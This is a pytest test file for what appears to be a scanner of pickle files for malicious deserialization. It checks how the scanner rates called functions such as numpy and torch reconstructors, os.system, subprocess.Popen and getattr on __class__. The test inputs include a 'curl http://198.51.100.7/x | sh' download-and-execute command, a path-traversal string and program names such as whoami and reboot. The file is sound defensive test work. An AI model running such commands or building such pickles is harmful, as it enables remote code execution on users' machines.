"""The table of harmless uses, and the parts that callables play."""

from __future__ import annotations

import pytest

from toadstone.core.fact import Call, Import
from toadstone.core.finding import Severity
from toadstone.core.place import Place
from toadstone.core.value import Items, Opaque, Result, Symbol, Value
from toadstone.symbols.harmless import is_harmless, shape
from toadstone.symbols.judgement import judge_call, judge_import
from toadstone.symbols.roles import Role, names_gadget, role_of

PLACE = Place("model.pkl", offset=1)
MADE = Result(
    Symbol("cloudpickle.cloudpickle", "_make_skeleton_class"),
    (Symbol("builtins", "type"), "Model", Items("tuple", [Symbol("builtins", "object")]), Items("dict", []), "8f3e", None),
)


def judged(symbol: Symbol, *args: Value, how: str = "REDUCE") -> Severity | None:
    judgement = judge_call(Call(PLACE, symbol, args, (), how, "pickle"))
    return judgement.severity if judgement is not None else None


def test_the_shape_names_types_and_who_made_objects():
    made = Result(Symbol("numpy", "dtype"), ("f8",))
    assert shape((1, "a", None, Items("tuple"), Symbol("a", "B"), made, Opaque())) == "int,str,None,tuple,=a.B,numpy.dtype(),?"


def test_a_known_use_is_harmless_only_with_its_shape():
    frombuffer = Symbol("numpy._core.numeric", "_frombuffer")
    array = (b"\0" * 8, Result(Symbol("numpy", "dtype"), ("f8", False, True)), Items("tuple", [1]), "C")
    assert is_harmless(frombuffer, "REDUCE", array)
    assert judged(frombuffer, *array) is None
    assert judged(frombuffer, "curl http://198.51.100.7/x | sh") == Severity.HIGH


def test_a_known_use_with_a_payload_is_not_harmless():
    zone = Symbol("zoneinfo", "ZoneInfo._unpickle")
    assert judged(zone, "Europe/Zurich", 1) is None
    assert judged(zone, "../../../../tmp/zone", 1) is not None


@pytest.mark.parametrize(
    ("module", "name", "how", "role"),
    [
        ("sklearn.svm._classes", "SVC", "REDUCE", Role.CLASS),
        ("collections", "deque", "REDUCE", Role.CLASS),
        ("anything", "at_all", "NEWOBJ", Role.CLASS),
        ("torch._utils", "_rebuild_tensor_v2", "REDUCE", Role.RECONSTRUCTOR),
        ("pandas._libs.internals", "_unpickle_block", "REDUCE", Role.RECONSTRUCTOR),
        ("pandas", "eval", "REDUCE", Role.FUNCTION),
        ("torch.hub", "load", "REDUCE", Role.FUNCTION),
        ("somewhere", "_run", "REDUCE", Role.FUNCTION),
    ],
)
def test_what_part_a_callable_plays(module, name, how, role):
    assert role_of(Symbol(module, name), how) is role


def test_functions_are_no_part_of_putting_objects_together():
    assert judged(Symbol("sympy", "lambdify_unknown"), "x + y") == Severity.HIGH
    assert judged(Symbol("nobody_knows", "compute"), 3) == Severity.MEDIUM
    assert judged(Symbol("nobody_knows", "Model"), 3) == Severity.MEDIUM
    assert judged(Symbol("sklearn.svm._classes", "SVC"), how="NEWOBJ") is None


def test_one_word_tells_a_function_what_to_make_unless_it_is_a_program():
    assert judged(Symbol("nobody_knows", "type_for_alias"), "large_string") == Severity.MEDIUM
    assert judged(Symbol("nobody_knows", "compute"), ["m", "meter"]) == Severity.MEDIUM
    for program in ("whoami", "id", "reboot", "sh", "calc.exe"):
        assert judged(Symbol("nobody_knows", "compute"), program) == Severity.HIGH
    for more in ("a b", "../x", "a.b", "x" * 40, b"word"):
        assert judged(Symbol("nobody_knows", "compute"), more) == Severity.HIGH


def test_a_bound_method_is_kept_by_getattr():
    model = Result(Symbol("acme.kernels", "Kernel"))
    assert judged(Symbol("builtins", "getattr"), model, "_hook") == Severity.MEDIUM
    assert judged(Symbol("builtins", "getattr"), model, "__class__") == Severity.HIGH
    assert judged(Symbol("builtins", "getattr"), Result(Symbol("acme", "load")), "_hook") == Severity.HIGH
    assert judged(Symbol("builtins", "getattr"), Result(Symbol("subprocess", "Popen")), "wait") == Severity.HIGH
    assert judged(Symbol("builtins", "getattr"), Symbol("os", ""), "system") >= Severity.HIGH


def test_text_that_names_a_gadget_is_one():
    assert names_gadget(["os:system"]) == "os:system"
    assert names_gadget([Items("list", ["subprocess.Popen"])]) == "subprocess.Popen"
    assert names_gadget(["sklearn.svm", "model.pkl", "a.b"]) == ""


def test_resolving_a_class_of_a_library_is_not_calling_it():
    assert judge_import(Import(PLACE, Symbol("gensim.models.phrases", "Phrases"), "GLOBAL", "pickle")) is None
    command = judge_import(Import(PLACE, Symbol("subprocess", "Popen"), "GLOBAL", "pickle"))
    assert command is not None
    assert command.severity == Severity.HIGH


ORDINARY = [
    ("an exception with a path", Symbol("builtins", "FileNotFoundError"), (2, "no such file", "/home/user/data.csv"), "REDUCE"),
    ("a network's address", Symbol("ipaddress", "IPv4Network"), ("192.0.2.0/24",), "REDUCE"),
    ("the parts of an address", Symbol("urllib.parse", "ParseResult"), ("https", "data.example", "/x", "", "", ""), "NEWOBJ"),
    ("a field of a named tuple", Symbol("_collections", "_tuplegetter"), (0, "Alias for field number 0"), "REDUCE"),
    ("an instance of a class that is carried", MADE, (), "NEWOBJ"),
]


@pytest.mark.parametrize(("callee", "args", "how"), [case[1:] for case in ORDINARY], ids=[case[0] for case in ORDINARY])
def test_ordinary_objects_of_the_standard_library_are_silent(callee, args, how) -> None:
    assert judge_call(Call(PLACE, callee, args, (), how, "pickle")) is None


def test_a_method_of_a_container_is_only_worth_a_look() -> None:
    assert judged(Symbol("builtins", "getattr"), Items("list", []), "append") is Severity.MEDIUM
    assert judged(Symbol("builtins", "getattr"), Items("list", []), "__class__") is Severity.HIGH


def test_what_is_stored_globally_counts_whoever_made_it() -> None:
    opener = Result(Symbol("urllib.request", "build_opener"))
    assert judged(Symbol("urllib.request", "install_opener"), opener) is Severity.HIGH


def test_a_container_of_a_command_is_made_by_hand():
    assert judged(Symbol("collections", "OrderedDict"), "curl http://198.51.100.7/x | sh") == Severity.HIGH
    assert judged(Symbol("builtins", "set"), Items("list", ["curl http://198.51.100.7/x | sh"])) is None
    assert judged(Symbol("builtins", "list"), "a few words, as they come") is None
